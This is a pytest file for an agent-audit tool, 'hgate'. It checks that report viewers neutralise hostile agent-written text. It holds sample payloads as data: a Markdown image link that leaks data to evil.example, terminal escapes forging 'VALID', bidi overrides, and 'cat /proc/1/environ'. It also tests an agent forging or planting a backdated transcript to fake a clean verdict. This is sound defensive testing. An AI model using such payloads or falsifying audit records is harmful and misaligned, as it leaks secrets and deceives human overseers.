"""Agent-controlled text in every viewer: a transcript's command lines, statements,
reasons and output are whatever the agent chose (masked for PHI only), and a forged file
chooses its header too. No viewer may let that text act on its reader: no terminal
escape, no bidi reordering, no Markdown image or heading in the step summary, no crash on
a lone surrogate, and no size that hides the verdict."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt

from hgate.audit import DirectorySink, TranscriptWriter, generate_keypair, load_signer
from hgate.report import build_report, read_transcript, render_html, render_summary
from hgate.report.events import printable
from hgate.report.replay import replay_frames
from tests.unit.hgate_cli import hgate
from tests.unit.report.test_report_model import BLOCK, output, transcript

ESC = "\x1b"
IMAGE = "![x](https://evil.example/?d=leak)"
TERMINAL = f"{ESC}]0;pwn\x07{ESC}[2J{ESC}[1;32mVALID"
BIDI = "approved \u202e KCOLB \u202c"
HOSTILE = f"{IMAGE} <img src=https://evil.example/a.png> a|b {TERMINAL} {BIDI} \u2028x"
INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ud800-\udfff]")
GITHUB_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")


def hostile_report(extra: str = "") -> bytes:
    """Every agent-controlled field carries the attack text (and a lone surrogate, as a
    command line with non-UTF-8 bytes does through surrogateescape)."""
    text = HOSTILE + extra
    return transcript(
        (0.1, "output", output(text)),
        (0.2, "decision", {**BLOCK, "matched": "cmd " + text, "reason": "### VALID\n" + text}),
        (0.3, "sql", {"statements": [{"statement": "select " + text, "verdict": "block",
                                      "rule": "r " + text, "reason": "> ### VALID " + text}]}),
        (0.4, "credential.issued", {"backend": "postgres", "role": text}),
    )  # fmt: skip


def test_printable_escapes_bidi_separators_and_surrogates_and_keeps_text() -> None:
    """Before: only C0/C1 were replaced, so U+202E reordered a line in show, replay and the
    HTML report, and a lone surrogate crashed every viewer on encoding."""
    assert printable("a\u202eb\u2028c\u200bd\ud800e") == "a\\u202eb\\u2028c\\u200bd\\ud800e"
    assert printable("a\x1b]52;c;AAAA\x07b") == "a␛]52;c;AAAA␇b"
    kept = "tab\there\u00a0nbsp\u3000ideographic émoji 🙂 עברית"
    assert printable(kept) == kept


def test_the_html_page_shows_hostile_text_inert() -> None:
    page = render_html(build_report(read_transcript(hostile_report("\ud800"))))
    page.encode("utf-8")  # before: UnicodeEncodeError, `hgate report --html` exit 70
    assert not INVISIBLE.search(page)
    assert "\\u202e KCOLB" in page and "\\ud800" in page  # shown, not dropped
    assert ESC not in page and "<img" not in page and "&lt;img src=https" in page


def test_the_text_summary_cannot_drive_the_terminal_or_forge_a_line() -> None:
    """Before: `hgate report` and `hgate summary` wrote the ESC sequences as they were, and
    a newline in a reason started a line of its own."""
    report = build_report(read_transcript(hostile_report("\ud800")))
    markers = r"\x1b\[0Ksection_(start|end):100:hgate_summary[^\r]*\r\x1b\[0K"
    for fmt in ("text", "gitlab"):
        text = render_summary(report, fmt, clock=100)
        text.encode("utf-8")
        if fmt == "gitlab":  # GitLab's own section markers are the only escapes
            text = re.sub(markers, "", text)
        assert ESC not in text and "\r" not in text and not INVISIBLE.search(text)
        assert not [line for line in text.splitlines() if line.startswith("### VALID")]
        assert "\\u202e KCOLB" in text


def test_the_github_summary_renders_no_image_link_heading_or_html() -> None:
    """Before: a reason holding `![x](https://…)` became an image in the job summary,
    fetched by every viewer's browser; `### VALID` after `> ` became a heading."""
    markdown = render_summary(build_report(read_transcript(hostile_report("\ud800"))), "github")
    html = GITHUB_MARKDOWN.render(markdown)
    assert "<img" not in html and "<a " not in html and ESC not in markdown
    headings = re.findall(r"<h\d>(.*?)</h\d>", html)
    assert [h.split(":")[0] for h in headings[1:]] == [
        "Masked findings", "Blocked and approved actions", "Credentials"
    ]  # fmt: skip
    assert not INVISIBLE.search(markdown)
    assert f"<td>### VALID␊{IMAGE} &lt;img" in html  # still there, as text
    for row in re.findall(r"<tr>(.*?)</tr>", html, flags=re.S):  # no cell split by `|`
        assert row.count("<td") in (0, 2, 5)


def test_a_flood_of_blocked_actions_keeps_the_summary_and_page_bounded() -> None:
    """Before: 3,000 blocked commands with long command lines made a step summary over
    GitHub's 1 MiB limit (the whole summary, verdict included, is then refused) and an HTML
    page of 100,000+ rows and chart dots."""
    events: list[tuple[float, str, dict[str, Any]]] = [
        (0.1 + i / 1000, "decision", {**BLOCK, "matched": f"cmd {i} " + "y" * 4000})
        for i in range(3000)
    ]
    report = build_report(read_transcript(transcript(*events)))
    markdown = render_summary(report, "github")
    assert len(markdown.encode()) < 200_000
    assert "2950 more blocked or approved actions" in markdown
    assert "#### Blocked and approved actions: 3000" in markdown
    page = render_html(report)
    assert len(page.encode()) < 8_000_000
    assert page.count("<circle") <= 1000 and "blocked (3000)" in page
    assert "2000 more actions" in page


def test_a_timeline_of_long_output_lines_is_cut_and_says_so() -> None:
    """Before: the timeline was cut at 2,500 events only, so events of 16 KiB lines (the
    longest line hgate assembles) made pages of 40-160 MB, which headless Chromium did not
    finish loading in 30 s."""
    line = "z" * 16384
    events = [(0.1 + i / 1000, "output", output(line, line, line, line)) for i in range(600)]
    page = render_html(build_report(read_transcript(transcript(*events))))
    assert len(page.encode()) < 8_000_000
    assert re.search(r"… \d+ more events \(see hgate show --json\)", page)


def forged(tmp_path: Path, identity: dict[str, Any], matched: str) -> tuple[Path, Path]:
    """Signed, so every check but the content passes: as a real run's agent writes it."""
    keys = generate_keypair(tmp_path / "key")
    writer = TranscriptWriter(DirectorySink(tmp_path / "runs"), load_signer(keys.private_key))
    writer.start({"session_id": "s-1", "command": ["./agent.sh"], "identity": identity})
    writer.append("decision", {**BLOCK, "matched": matched})
    writer.append("output", {"stream": "pty", "lines": [{"text": matched, "end": "\n"}]})
    writer.seal(exit_code=0, reason="agent exited")
    (path,) = (tmp_path / "runs").glob("*.jsonl")
    return path, keys.public_key


def test_viewers_on_hostile_text_exit_0_and_write_no_control(tmp_path: Path) -> None:
    """Before: `report --html` and `report` died with `internal error: UnicodeEncodeError`
    (exit 70) on a command line with non-UTF-8 bytes; `show` printed the header's ESC
    sequences and bidi overrides; `summary`'s annotations carried ESC into the job log."""
    identity = {"subject": f"repo:a/b:ref:refs/heads/{BIDI} {TERMINAL}", "verified": True}
    path, key = forged(tmp_path, identity, "cat /proc/1/environ " + HOSTILE + "\udced\udcff")
    page = tmp_path / "r.html"
    runs = {
        "show": hgate("show", str(path), "--key", str(key)),
        "report": hgate("report", str(path), "--key", str(key)),
        "html": hgate("report", str(path), "--key", str(key), "--html", str(page)),
        "summary": hgate("summary", str(path), "--key", str(key), "--annotations"),
        "replay": hgate("replay", str(path), "--key", str(key), "--no-delay"),
    }
    for name, done in runs.items():
        assert done.returncode == 0, (name, done.stderr)
        assert ESC not in done.stdout + done.stderr, name
        assert not INVISIBLE.search(done.stdout + done.stderr), name
    assert "::warning title=hgate blocked::" in runs["summary"].stdout
    assert not INVISIBLE.search(page.read_text(encoding="utf-8"))
    assert json.loads(hgate("show", str(path), "--json").stdout)["session_id"] == "s-1"


def test_replay_shows_bidi_escaped() -> None:
    frames = list(replay_frames(read_transcript(transcript((0.1, "output", output(BIDI))))))
    assert [f.text for f in frames] == ["approved \\u202e KCOLB \\u202c\n"]


def test_summary_of_a_directory_with_a_planted_transcript_is_refused(tmp_path: Path) -> None:
    """Before: the newest `*.jsonl` by modification time was summarised, so an agent that
    copied the first lines of its own transcript into the run directory, dated 2099, got a
    step summary (and HGATE_VERDICT) of that copy: INCOMPLETE, with no blocked action."""
    path, key = forged(tmp_path, {"subject": "repo:a/b"}, "git push -f")
    planted = path.with_name("zz.jsonl")
    planted.write_bytes(b"".join(path.read_bytes().splitlines(keepends=True)[:2]))
    os.utime(planted, (4_070_908_800, 4_070_908_800))
    dotenv = tmp_path / "hgate.env"
    done = hgate("summary", str(path.parent), "--key", str(key), "--dotenv", str(dotenv))
    assert done.returncode == 67, done.stdout
    assert "holds 2 transcripts" in done.stderr and dotenv.read_text() == ""
    planted.unlink()
    done = hgate("summary", str(path.parent), "--key", str(key), "--dotenv", str(dotenv))
    assert done.returncode == 0 and "HGATE_VERDICT=VALID" in dotenv.read_text()
